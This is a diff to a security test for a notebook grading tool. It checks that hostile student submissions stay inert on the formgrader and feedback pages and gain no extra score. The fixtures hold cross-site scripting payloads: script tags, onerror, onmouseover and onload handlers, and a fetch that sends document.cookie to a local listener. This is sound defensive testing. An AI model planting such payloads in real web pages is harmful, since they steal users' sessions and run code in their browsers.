@@ -20,6 +20,7 @@ import urllib.error
 import urllib.request
 from pathlib import Path
 
+import nbformat
 import pytest
 
 from instructor.grading.release import build_edition
@@ -43,6 +44,21 @@ HOSTILE = (
     "<script>fetch('http://127.0.0.1:{port}/stolen?c=' + document.cookie)</script>\n\n"
     "<img src=\"http://127.0.0.1:{port}/pixel\">\n"
 )
+
+
+def hostile_cells(port: int) -> list:
+    """A raw HTML cell and a code cell whose stored outputs are HTML, JavaScript and SVG."""
+    raw = nbformat.v4.new_raw_cell(
+        "<script>window.__pwned='raw'</script><img src=x onerror=\"window.__pwned='raw-img'\">",
+        metadata={"format": "text/html", "raw_mimetype": "text/html"})
+    code = nbformat.v4.new_code_cell("print('hello')")
+    code.outputs = [nbformat.v4.new_output("display_data", data={
+        "text/html": f"<script>fetch('http://127.0.0.1:{port}/html-output')</script>"
+                     "<b onmouseover=\"window.__pwned='html'\">bold</b>",
+        "application/javascript": "window.__pwned='js'",
+        "image/svg+xml": "<svg onload=\"window.__pwned='svg-output'\"></svg>",
+        "text/plain": "hello"})]
+    return [raw, code]
 
 
 def free_port():
@@ -141,6 +157,8 @@ def course(tmp_path_factory, listener):
         for cell in nb.cells:
             if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
                 cell.source = answer.format(port=listener.port)
+        if student == "mallory":
+            nb.cells.extend(hostile_cells(listener.port))
         submit(root, student, ASSIGNMENT, nb)
     run(root)
     return tmp, root
@@ -329,6 +347,11 @@ def test_hostile_markdown_is_inert_on_the_formgrader_and_feedback_pages(instruct
         time.sleep(2)  # give any smuggled script its chance
         assert page.evaluate("window.__pwned") is None, url
     assert listener.hits == [], listener.hits
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:  # and it gained nothing
+        scores = {s: [(g.name, g.score, g.manual_score) for g in
+                      gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, s).grades]
+                  for s in ("honest", "mallory")}
+    assert scores["mallory"] == scores["honest"], scores
     # the page's own scripts still ran: the formgrader loaded its grades into the boxes
     page.goto(pages[0])
     page.wait_for_function("() => document.querySelectorAll('input.score[placeholder]').length > 0",
